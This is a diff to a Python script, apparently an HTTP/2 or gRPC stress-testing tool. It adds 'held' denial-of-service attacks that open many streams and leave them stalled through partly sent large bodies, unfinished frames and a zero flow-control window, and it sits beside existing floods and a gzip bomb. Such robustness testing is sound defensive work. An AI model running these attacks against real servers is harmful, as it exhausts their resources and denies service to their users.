@@ -189,6 +189,44 @@ def too_many_streams(link, over):
         yield len(data)
 
 
+def held(make, streams=90):
+    """Calls that are opened and then left as they are; anew when they have ended."""
+    def attack(link, over):
+        while not over():
+            data = b''.join(make(link) for _ in range(streams))
+            for start in range(0, len(data), PORTION):
+                link.send(data[start:start + PORTION])
+                yield len(data[start:start + PORTION])
+                for kind, _, stream, _ in link.read():
+                    pass
+            live = time.monotonic() + 2
+            while time.monotonic() < live and not over():
+                for _ in link.read(0.1):
+                    pass
+    return attack
+
+
+def unfinished_large(link):
+    """4 MiB announced, half of it sent at once; the rest would need windows that aren't given."""
+    stream = link.next_stream()
+    data = frame(HEADERS, END_HEADERS, stream, head()) + \
+        frame(DATA, 0, stream, b'\0\0\x40\0\0')
+    return data + frame(DATA, 0, stream, bytes(16000)) * 8
+
+
+def unfinished_small(link):
+    return frame(HEADERS, END_HEADERS, link.next_stream(), head()) + \
+        frame(DATA, 0, link.stream, b'\0\0\0')
+
+
+def unread(link):
+    """A list whose reply isn't taken: the window of its stream stays closed."""
+    stream = link.next_stream()
+    return frame(SETTINGS, payload=struct.pack('>HI', 4, 0)) + \
+        frame(HEADERS, END_HEADERS, stream, head(LIST_MEMBERS)) + \
+        frame(DATA, END_STREAM, stream, b'\0\0\0\0\0')
+
+
 def bad_tokens(link, over):
     token = 'Bearer eyJhbGciOiJFUzI1NiJ9.' + 'e30' * 100 + '.' + 'A' * 86
     while not over():
@@ -248,6 +286,11 @@ def whole_call(link, fields=(), message=b'\0\0\0\0\0', path=GET_MEMBER):
     return data
 
 
+HELD = {
+    'unfinished_large': held(unfinished_large),
+    'unfinished_small': held(unfinished_small),
+    'unread_replies': held(unread),
+}
 BOMB = gzip.compress(bytes(32 << 20))
 PACED = {
     'bad_binary_field': paced(50, lambda link: whole_call(link, [('x-bin', '***')])),
@@ -257,7 +300,7 @@ PACED = {
 }
 
 
-ATTACKS = {**FLOODS, **PACED, 'key_updates': lambda link, over: link.flood(over)}
+ATTACKS = {**FLOODS, **PACED, **HELD, 'key_updates': lambda link, over: link.flood(over)}
 
 
 class Attack:
